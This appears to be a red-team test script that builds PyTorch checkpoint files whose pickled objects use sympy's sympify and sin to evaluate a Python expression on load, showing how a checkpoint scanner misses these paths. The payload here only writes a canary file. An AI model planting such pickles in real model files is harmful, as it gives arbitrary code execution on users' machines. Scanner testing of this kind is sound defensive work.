"""sympy is installed wherever torch is (a requirement of torch), and sympify parses text with
eval; sympy's functions and classes sympify their arguments. ckpt's code table listed
``sympy.sympify``, but a pickle names a function by the module that defines it:
``sympy.core.sympify.sympify``, which ckpt judged "a class from outside torch, numpy and the
standard library" (CKPT003 custom-class, and CKPT004 saying to allow-list it only if you wrote
it), as it did ``sympy.functions.elementary.trigonometric.sin``. torch.load(weights_only=False)
of either file evaluates the text (writes a canary file <canary>_<name>)."""
import sys

import sympy
import torch

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/sympy"


class Call:
    def __init__(self, function, tag):
        self.function, self.tag = function, tag

    def __reduce__(self):
        return (self.function, (f"__import__('builtins').open({canary + '_' + self.tag!r}, "
                                "'w').write('ran') and 0",))


for tag, function in (("sympify", sympy.sympify), ("sin", sympy.sin)):
    torch.save({"weight": torch.zeros(2), "scale": Call(function, tag)}, f"{tag}.pt")
print("wrote sympify.pt sin.pt")
